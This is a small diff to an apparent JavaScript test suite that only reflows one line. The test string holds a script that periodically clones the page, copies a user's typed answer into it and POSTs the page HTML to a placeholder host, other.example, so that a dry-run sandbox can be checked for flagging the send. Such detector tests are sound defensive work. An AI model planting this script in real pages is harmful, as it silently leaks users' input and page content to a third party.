@@ -209,7 +209,8 @@ test("a style that forbids selecting is declared", () => {
 });
 
 test("a copy of a page has what stands in it, and is sent for what it is", () => {
-  const code = `setInterval(() => { const copy = document.documentElement.cloneNode(true); copy.querySelector("#answer").textContent = answer.value;
+  const code = `setInterval(() => { const copy = document.documentElement.cloneNode(true);
+    copy.querySelector("#answer").textContent = answer.value;
     fetch("https://other.example/frame", { method: "POST", body: copy.outerHTML }); }, 4000);`;
   const paper = dryRunFrame(frame(`${answer} ${code}`), 2000);
   assert.ok(paper.quiet.some((deed) => deed.kind === "send" && deed.certain));
